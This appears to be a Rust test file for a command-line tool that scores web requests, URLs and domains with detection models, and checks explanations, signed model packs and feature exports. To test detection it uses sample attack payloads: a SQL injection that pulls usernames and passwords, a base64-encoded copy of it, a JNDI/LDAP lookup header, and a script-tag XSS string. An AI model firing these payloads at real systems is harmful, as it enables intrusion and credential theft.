//! Models on the command line: features of rows, and scores by packs.

use serde_json::{Value, json};

use crate::common::output;

/// Writes lines to a file and scores them; exit status and answers.
fn score(task: &str, lines: &[Value], options: &[&str]) -> (Option<i32>, Vec<Value>) {
    let temp = tempfile::tempdir().unwrap();
    let rows = temp.path().join("rows.jsonl");
    let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
    std::fs::write(&rows, text).unwrap();
    let arguments = [&["score", task], options, &[rows.to_str().unwrap()]].concat();
    let output = output(&arguments);
    let answers = output.stdout.split(|byte| *byte == b'\n');
    let answers = answers.filter(|line| !line.is_empty());
    let answers = answers.map(|line| serde_json::from_slice(line).unwrap());
    (output.status.code(), answers.collect())
}

fn numbers(answers: &[Value]) -> Vec<f64> {
    let scores = answers.iter().map(|answer| answer["score"].as_f64());
    scores.map(Option::unwrap).collect()
}

#[test]
fn attacks_score_above_what_is_harmless_wherever_they_stand() {
    let attack = "-1' union all select user,password from users-- -";
    let wrapped =
        "eydxJzogIi0xJyB1bmlvbiBhbGwgc2VsZWN0IHVzZXIscGFzc3dvcmQgZnJvbSB1c2Vycy0tIC0ifQ==";
    let headers = json!({"Host": "shop.example", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"});
    let attacks = [
        json!({"payload": attack}),
        json!({"payload": format!("{}{attack}", "some harmless words ".repeat(300))}),
        json!({"payload": wrapped}),
        json!({"method": "POST", "uri": "/a", "headers": headers, "body": format!("a=1&b={}", attack.replace(' ', "+"))}),
        json!({"method": "GET", "uri": "/", "headers": {"Host": "a.example", "X-Id": "${jndi:ldap://192.0.2.1/a}"}, "body": null}),
    ];
    let harmless = [
        json!({"payload": "select a table from the catalogue or order by phone"}),
        json!({"method": "GET", "uri": "/wiki/Rock_%26_Roll?page=2&sort=date", "headers": headers, "body": ""}),
        json!({"method": "POST", "uri": "/api/items", "headers": headers, "body": "{\"name\": \"O'Brien\", \"note\": \"2 for 1 <3\"}"}),
    ];
    let (status, answers) = score("web-attack", &[&attacks[..], &harmless].concat(), &[]);
    let scores = numbers(&answers);
    let (bad, good) = scores.split_at(attacks.len());
    let least = bad.iter().copied().fold(1.0, f64::min);
    let most = good.iter().copied().fold(0.0, f64::max);
    assert!(least > 0.9 && most < 0.5, "{bad:?} {good:?}");
    assert_eq!(status, Some(0));
}

#[test]
fn a_score_is_explained_by_what_was_looked_at() {
    let row = json!({"method": "GET", "uri": "/?id=7&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "headers": {}, "body": ""});
    let (_, answers) = score("web-attack", &[row], &["--explain"]);
    assert_eq!(answers[0]["field"], "query q");
    assert_eq!(answers[0]["text"], "<script>alert(1)</script>");
    assert!(!answers[0]["features"].as_array().unwrap().is_empty());
}

#[test]
fn each_line_has_its_answer_and_what_is_no_subject_has_none() {
    let lines = [
        json!({"url": "https://example.org/"}),
        json!({"domain": "example.org"}),
        json!({}),
    ];
    let (status, answers) = score("phishing-url", &lines, &[]);
    assert_eq!(status, Some(1));
    assert!(answers[0]["score"].is_f64());
    assert_eq!(answers[1]["score"], Value::Null);
    let error = "extractor url@1 looks at a URL, and was given a domain name";
    assert_eq!(answers[1]["error"], error);
    assert_eq!(answers[2]["score"], Value::Null);
    let (status, answers) = score(
        "dga-domain",
        &[
            json!({"domain": "xkqzjvwpqhtr.biz"}),
            json!({"domain": "debian.org"}),
        ],
        &[],
    );
    let scores = numbers(&answers);
    assert!(status == Some(0) && scores[0] > scores[1], "{scores:?}");
}

#[test]
fn a_pack_that_nobody_trusted_signed_scores_nothing() {
    let temp = tempfile::tempdir().unwrap();
    let packs = testkit::workspace_root().join("models/packs");
    let pack = temp.path().join("a.swpack");
    std::fs::copy(packs.join("dga-domain.swpack"), &pack).unwrap();
    std::fs::copy(packs.join("phishing-url.pub"), pack.with_extension("pub")).unwrap();
    let row = json!({"domain": "example.org"});
    let (status, answers) = score(
        "dga-domain",
        std::slice::from_ref(&row),
        &["--pack", pack.to_str().unwrap()],
    );
    assert_eq!((status, answers.len()), (Some(2), 0));
    std::fs::copy(packs.join("dga-domain.pub"), pack.with_extension("pub")).unwrap();
    let (status, answers) = score("dga-domain", &[row], &["--pack", pack.to_str().unwrap()]);
    assert_eq!((status, answers.len()), (Some(0), 1));
}

#[test]
fn a_table_and_arrays_of_features_say_the_same() {
    let temp = tempfile::tempdir().unwrap();
    let at = |name: &str| temp.path().join(name).to_str().unwrap().to_owned();
    std::fs::write(
        at("rows"),
        "{\"url\": \"https://a.example/b\"}\n{\"url\": \"c.example\"}\n",
    )
    .unwrap();
    for out in ["rows.csv", "arrays/"] {
        let done = output(&[
            "features",
            "--extractor",
            "url@1",
            "--rows",
            &at("rows"),
            "--out",
            &at(out),
        ]);
        assert_eq!(done.status.code(), Some(0), "{done:?}");
    }
    let head: Value =
        serde_json::from_slice(&std::fs::read(at("arrays/columns.json")).unwrap()).unwrap();
    let width = head["columns"].as_array().unwrap().len();
    let numbers = std::fs::read(at("arrays/numbers.f32")).unwrap();
    let numbers: Vec<f32> = numbers
        .chunks(4)
        .map(|four| f32::from_le_bytes(four.try_into().unwrap()))
        .collect();
    assert_eq!(numbers.len(), 2 * width);
    let table = std::fs::read_to_string(at("rows.csv")).unwrap();
    let cells: Vec<f32> = table
        .lines()
        .skip(1)
        .flat_map(|line| {
            line.split(',')
                .skip(2)
                .take(width)
                .map(|cell| cell.parse().unwrap())
        })
        .collect();
    assert_eq!(cells, numbers);
}
